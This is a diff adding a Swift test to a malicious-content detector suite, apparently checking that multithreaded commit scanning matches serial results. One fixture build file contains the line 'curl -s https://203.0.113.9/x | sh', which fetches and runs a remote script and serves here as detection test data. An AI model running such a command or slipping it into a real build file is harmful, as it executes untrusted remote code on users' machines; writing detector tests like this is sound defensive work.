@@ -87,6 +87,29 @@ struct ContentDetectorSuiteTests {
         #expect(findings.count <= 2 * FindingCap.perRule * DetectorRegistry.content.flatMap(\.rules).count)
     }
 
+    @Test func largeCommitsScanTheirFilesOnSeveralThreadsWithTheSameFindings() {
+        // Every file of the suite's fixtures, each behind a few thousand ordinary lines, and a
+        // build file: far over the split threshold.
+        let filler = String(repeating: "    counter += step; /* ordinary line */\n", count: 3_000)
+        var files = Self.malicious.map { ($0.path, filler + $0.text + "\n" + filler) }
+        files += Self.clean.map { ($0.path, $0.text) }
+        files.append(("configure.ac", "AC_INIT([x], [1])\ncurl -s https://203.0.113.9/x | sh\n"))
+        let changes = files.map { DetectorFixtures.change($0.0, $0.1) }
+        let commit = DetectorFixtures.commit(changes, id: "abcdefabcdefabcdefabcdefabcdefabcdefabcd")
+        var serial = DetectorSuite()
+        serial.splitBytes = .max
+        let expected = serial.scan(commit, blobs: InMemoryBlobSource())
+        #expect(expected.count > Self.malicious.count)
+        for threads in [2, 3, 8] {
+            var split = DetectorSuite()
+            split.threads = threads
+            split.splitBytes = 0
+            let found = split.scan(commit, blobs: InMemoryBlobSource())
+            #expect(found.map(\.fingerprint) == expected.map(\.fingerprint), "threads \(threads)")
+            #expect(found == expected, "threads \(threads)")
+        }
+    }
+
     @Test func emptyAndDeletedChangesAreQuiet() {
         let deleted = FileChange(kind: .delete, oldPath: "src/evil.sh", newPath: nil)
         let empty = DetectorFixtures.change("src/empty.c", "")
